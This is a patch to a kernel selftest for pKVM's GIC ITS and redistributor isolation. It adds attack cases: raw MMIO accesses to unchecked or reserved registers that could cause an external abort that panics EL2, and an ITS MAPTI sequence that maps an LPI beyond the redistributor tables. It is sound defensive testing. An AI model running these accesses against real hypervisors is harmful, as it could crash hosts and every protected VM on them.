+ * RD_base (0x18 and 0x1c, GICR_MPAMIDR and GICR_PARTIDR only with MPAM, 0x80,
+ * 0x100, 0xffc0) and of VLPI_base read; GICR_PROPBASER written 32 bits at a
+ * time, with the value it holds.
+ *
+ * QEMU answers every one of them (RAZ/WI) and nothing changes. Hardware need
+ * not: the GIC may answer such an access with an external abort. Once the
+ * hypervisor has taken these frames, an access it passes on is made at EL2,
+ * where an external abort panics the hypervisor, and every pVM with it. So
+ * whatever the GIC answers, the attack lands as soon as one of the accesses
+ * reaches it; it is blocked if every one of them faults in the host instead
+ * (SIGSEGV or SIGBUS, depending on how the refusal is reflected).
+ *
+ * The hypervisor must pass on only the accesses it knows, at the width of
+ * the register, and refuse all others to the host.
+ */
+enum { FRAME_ITS, FRAME_RD, FRAME_VLPI };
+
+struct raw_access {
+	const char *name;
+	int frame;
+	u32 off;
+	u8 size;
+	bool write;
+};
+
+static const struct raw_access unchecked_accesses[] = {
+	{ "GITS_MPIDR, 64-bit read", FRAME_ITS, GITS_MPIDR, 8, false },
+	{ "ITS 0x0098 (reserved), write", FRAME_ITS, 0x0098, 4, true },
+	{ "ITS 0x0140 (reserved), write", FRAME_ITS, 0x0140, 4, true },
+	{ "RD_base 0x0018, read", FRAME_RD, 0x0018, 4, false },
+	{ "RD_base 0x001c, read", FRAME_RD, 0x001c, 4, false },
+	{ "RD_base 0x0080 (reserved), read", FRAME_RD, 0x0080, 4, false },
+	{ "RD_base 0x0100 (reserved), read", FRAME_RD, 0x0100, 4, false },
+	{ "RD_base 0xffc0, read", FRAME_RD, 0xffc0, 4, false },
+	{ "GICR_PROPBASER, 32-bit write", FRAME_RD, GICR_PROPBASER, 4, true },
+	{ "VLPI_base 0x0000 (reserved), read", FRAME_VLPI, 0x0000, 4, false },
+	{ "VLPI_base 0x0100 (reserved), read", FRAME_VLPI, 0x0100, 4, false },
+};
+
+struct raw_op {
+	void *addr;
+	u8 size;
+	bool write;
+	u64 val;
+};
+
+static void raw_op(void *arg)
+{
+	struct raw_op *op = arg;
+
+	if (op->write && op->size == sizeof(u64))
+		wr64(op->addr, 0, op->val);
+	else if (op->write)
+		wr32(op->addr, 0, op->val);
+	else if (op->size == sizeof(u64))
+		op->val = rd64(op->addr, 0);
+	else
+		op->val = rd32(op->addr, 0);
+}
+
+static void attack_el2_unchecked_access(void *arg)
+{
+	struct attack_ctx *c = arg;
+	const struct raw_access *a;
+	int reached = 0, refused = 0, sig;
+	struct raw_op op, prop = { .size = sizeof(u64) };
+	bool have_prop = false;
+	unsigned int i;
+	void *base;
+
+	if (gic.rd[0]) {
+		prop.addr = gic.rd[0] + GICR_PROPBASER;
+		have_prop = !guarded(raw_op, &prop);
+	}
+
+	for (i = 0; i < ARRAY_SIZE(unchecked_accesses); i++) {
+		a = &unchecked_accesses[i];
+		if (a->frame == FRAME_ITS)
+			base = gic.its;
+		else if (a->frame == FRAME_RD)
+			base = gic.rd[0];
+		else
+			base = gic.rd[0] && gic.gicr_stride == GICR_FRAME_V4 ?
+			       gic.rd[0] + GICR_VLPI_BASE : NULL;
+		if (!base || (a->frame == FRAME_RD && a->off == GICR_PROPBASER && !have_prop))
+			continue;
+
+		op.addr = base + a->off;
+		op.size = a->size;
+		op.write = a->write;
+		/* The value the register holds, or zero for a reserved word */
+		op.val = a->off == GICR_PROPBASER ? (u32)prop.val : 0;
+		sig = guarded(raw_op, &op);
+		if (sig) {
+			refused++;
+			c->res->denied = sig;
+			ksft_print_msg("%s: refused (signal %d)\n", a->name, sig);
+		} else {
+			reached++;
+			ksft_print_msg("unchecked: %s reached the GIC (%s 0x%lx)\n", a->name,
+				       a->write ? "wrote" : "read", op.val);
+		}
+	}
+
+	ksft_print_msg("%d accesses reached the GIC, %d were refused\n", reached, refused);
+	if (!reached && !refused)
+		case_set(c, CASE_NA, "no ITS or redistributor frame to access");
+	c->res->unchecked = reached > 0;
+}
+
+/*
+ * Attack: lpi_beyond_rdist_idbits
+ *
+ * The ITS takes any pINTID in a MAPTI below 2^(GITS_TYPER.ID_bits + 1); the
+ * LPI tables of the redistributors only cover the INTIDs below
+ * 2^(GICR_PROPBASER.IDbits + 1). Where the first limit is higher, the host
+ * maps an event to an LPI between the two: fired (INT), it would have the
+ * redistributor look up its configuration and set its pending bit beyond the
+ * end of both tables, in memory that may be anyone's. The case does not fire
+ * it: it lands if the ITS took the MAPTI, which shows as the ITE in the ITT
+ * (or, where the hypervisor counts the commands it refuses, as a count that
+ * did not grow). Where both limits agree (QEMU: 16 bits each), there is no
+ * such LPI and the case is n/a.
+ *
+ * The hypervisor must bound the pINTID of MAPTI (and MAPI) by the
+ * redistributors' GICR_PROPBASER.IDbits, not by GITS_TYPER.ID_bits.
+ */
+static void attack_lpi_beyond_rdist_idbits(void *arg)
+{
+	struct attack_ctx *c = arg;
+	long long refused_before, refused_after;
+	u32 its_bits = gic.id_bits, rd_bits, intid;
+	struct its_cmd cmd[4];
+	bool ite;
+	u64 itt;
+
+	if (!gic.rd[0]) {
+		case_set(c, CASE_NA, "no redistributor found");
+		return;
+	}
+	rd_bits = FIELD_GET(GICR_PROPBASER_ID_BITS, rd64(gic.rd[0], GICR_PROPBASER)) + 1;
+	ksft_print_msg("GITS_TYPER.ID_bits: %u bits, GICR_PROPBASER.IDbits: %u bits\n",
+		       its_bits, rd_bits);
+	if (its_bits == rd_bits) {
+		case_set(c, CASE_NA,
+			 "ITS EventID bits and redistributor IDbits agree on this machine (%u bits)",
+			 rd_bits);
+		return;
+	}
+	if (its_bits < rd_bits) {
+		case_set(c, CASE_NA,
+			 "the ITS allows fewer INTID bits (%u) than the redistributors (%u)",
+			 its_bits, rd_bits);
+		return;
+	}
+
+	intid = BIT(rd_bits);
+	itt = itt_space(c, 256);
+	refused_before = its_stat("refused ");
+	cmd_mapc(&cmd[0], gic.my_icid, gic.rd0_target, true);
+	cmd_mapd(&cmd[1], c->devid, itt, 0, true);
+	cmd_mapti(&cmd[2], c->devid, 0, intid, gic.my_icid);
+	if (its_send(c, cmd, 3))
+		return;
+	refused_after = its_stat("refused ");
+	ite = !phys_zero(itt, gic.ite_size);
+	c->res->unchecked = ite || (refused_before >= 0 && refused_after == refused_before);
+	ksft_print_msg("%sMAPTI to LPI %u: ITE %s at 0x%lx, refused commands %lld -> %lld\n",
+		       c->res->unchecked ? "unchecked: " : "", intid, ite ? "written" : "none",
+		       itt, refused_before, refused_after);
+
+	/*
+	 * Map the event to an LPI the tables cover before DISCARD, which
+	 * clears its pending bit: none beyond the tables is touched.
+	 */
+	cmd_mapti(&cmd[0], c->devid, 0, c->lpi, gic.my_icid);
+	cmd_event(&cmd[1], GITS_CMD_DISCARD, c->devid, 0);
+	cmd_mapd(&cmd[2], c->devid, 0, 0, false);
+	cmd_mapc(&cmd[3], gic.my_icid, 0, false);
+	its_send(c, cmd, 4);
+}
+
+/*
+ * Attack: is_protected_toctou
+ *
+ * The hypervisor refuses to create a pVM when the ITS was not handed over to
+ * it. __pkvm_init_vm used to make that check on kvm->arch.pkvm.is_protected
+ * in host memory, and to read the field again for the copy the VM runs with:
+ * a host CPU that sets it between the two reads gets a protected VM past the
+ * check. The field is in the kernel's struct kvm, out of reach of a root
+ * user, so the race needs kernel code, and the case is n/a. The hypervisor
+ * now reads the field once, into its own copy, and decides on that.
+ */
+static void attack_is_protected_toctou(void *arg)
+{
+	struct attack_ctx *c = arg;
+
+	case_set(c, CASE_NA,
+		 "needs kernel code: the race flips kvm->arch.pkvm.is_protected in host memory between two reads in __pkvm_init_vm; the hypervisor now reads its own copy once");
+}
+
 struct attack_case {
 	const char *name;
 	void (*fn)(void *arg);
@@ -1693,10 +2530,17 @@ static const struct attack_case cases[] = {
 	{ "dte_rewrite", attack_dte_rewrite, LAYOUT_ALL },
 	{ "dt_l1_in_pvm", attack_dt_l1_in_pvm, LAYOUT_ALL },
 	{ "gicv4_vpt_in_pvm", attack_gicv4_vpt_in_pvm, LAYOUT_ALL },
+	{ "vlpi_vpendbaser_in_pvm", attack_vlpi_vpendbaser_in_pvm, LAYOUT_ALL },
 	{ "pendbaser_in_pvm", attack_pendbaser_in_pvm, LAYOUT_ALL },
+	{ "late_rdist", attack_late_rdist, LAYOUT_ALL },
+	{ "el2_unchecked_access", attack_el2_unchecked_access, LAYOUT_ALL },
+	{ "lpi_beyond_rdist_idbits", attack_lpi_beyond_rdist_idbits, LAYOUT_ALL },
+	{ "is_protected_toctou", attack_is_protected_toctou, LAYOUT_ALL },
 	{ "baser_ct_in_pvm", attack_baser_ct_in_pvm, LAYOUT_ALL },
 	{ "baser_dt_in_pvm", attack_baser_dt_in_pvm, LAYOUT_ALL },
 	{ "cbaser_foreign_queue", attack_cbaser_foreign_queue, LAYOUT_ALL },
+	{ "cbaser_reset_drops_unmap", attack_cbaser_reset_drops_unmap, LAYOUT_LATE },
+	{ "pendtable_as_l2", attack_pendtable_as_l2, LAYOUT_ALL },
 	{ "mmio_recycle", attack_mmio_recycle, LAYOUT_ALL },
 	{ "malformed_regs", attack_malformed_regs, LAYOUT_LATE },
 };
@@ -2223,6 +3067,24 @@ static bool case_selected(const char *name)
 	return false;
 }
 
+/* Add the cases of a comma-separated @list to the selection. */
+static void select_cases(char *list, const char *prog)
+{
+	char *tok, *save;
+	unsigned int i;
+
+	for (tok = strtok_r(list, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
+		for (i = 0; i < ARRAY_SIZE(cases); i++)
+			if (!strcmp(tok, cases[i].name))
+				break;
+		if (i == ARRAY_SIZE(cases) || nr_opt_tests == ARRAY_SIZE(cases)) {
+			print_help(prog);
+			exit(KSFT_FAIL);
+		}
+		opt_tests[nr_opt_tests++] = tok;
+	}
+}
+
 static void parse_args(int argc, char *argv[])
 {
 	static const struct option opts[] = {
@@ -2231,24 +3093,13 @@ static void parse_args(int argc, char *argv[])
 		{ "help", no_argument, NULL, 'h' },
 		{ NULL, 0, NULL, 0 },
 	};
-	char *tok, *save;
 	unsigned int i;
 	int opt;
 
 	while ((opt = getopt_long(argc, argv, "t:lh", opts, NULL)) != -1) {
 		switch (opt) {
 		case 't':
-			tok = strtok_r(optarg, ",", &save);
-			for (; tok; tok = strtok_r(NULL, ",", &save)) {
-				for (i = 0; i < ARRAY_SIZE(cases); i++)
-					if (!strcmp(tok, cases[i].name))
-						break;
-				if (i == ARRAY_SIZE(cases) || nr_opt_tests == ARRAY_SIZE(cases)) {
-					print_help(argv[0]);
-					exit(KSFT_FAIL);
-				}
-				opt_tests[nr_opt_tests++] = tok;
-			}
+			select_cases(optarg, argv[0]);
 			break;
 		case 'l':
 			for (i = 0; i < ARRAY_SIZE(cases); i++)
@@ -2276,7 +3127,8 @@ static void report(const struct attack_case *ac, const char *kernel, const char 
 
 	broke = (before->msi > 0 && !after->msi) || (before->driver > 0 && !after->driver) ||
 		(before->pvm && !after->pvm);
-	landed = (child_ok && (res->victim_changed || res->victim_lost)) || broke;
+	landed = (child_ok && (res->victim_changed || res->victim_lost || res->diverged ||
+			       res->unchecked)) || broke;
 	if (landed)
 		result = "landed";
 	else if (error || res->status == CASE_NA)
@@ -2294,9 +3146,11 @@ static void report(const struct attack_case *ac, const char *kernel, const char 
 	if (error && !landed)
 		ksft_test_result_fail("%s\n", ac->name);
 	else
-		ksft_test_result_pass("%s%s%s%s%s\n", ac->name,
+		ksft_test_result_pass("%s%s%s%s%s%s%s\n", ac->name,
 				      res->victim_changed ? " (victim changed)" : "",
 				      res->victim_lost ? " (victim lost)" : "",
+				      res->diverged ? " (hypervisor and ITS disagree)" : "",
+				      res->unchecked ? " (GIC took an unchecked access)" : "",
 				      broke ? " (system broke)" : "",
 				      res->denied ? " (host access denied)" : "");
 }
@@ -2304,6 +3158,7 @@ static void report(const struct attack_case *ac, const char *kernel, const char 
 int main(int argc, char *argv[])
 {
 	char kernel[64], mode[16], hvhe[16], quality[16] = "";
+	static char attack[sizeof(cmdline)];
 	struct health before, after;
 	struct case_result *res;
 	unsigned int i, planned = 0;
@@ -2320,6 +3175,8 @@ int main(int argc, char *argv[])
 		snprintf(kernel, sizeof(kernel), "%s", opt_kernel);
 	else if (!cmdline_param("pkvmits.kernel", kernel, sizeof(kernel)))
 		guessed = snprintf(kernel, sizeof(kernel), "base");
+	if (!nr_opt_tests && cmdline_param("pkvmits.attack", attack, sizeof(attack)))
+		select_cases(attack, argv[0]);
 	if (opt_mode)
 		snprintf(mode, sizeof(mode), "%s", opt_mode);
 	else if (cmdline_param("arm64_sw.hvhe", hvhe, sizeof(hvhe)) && !strcmp(hvhe, "0"))
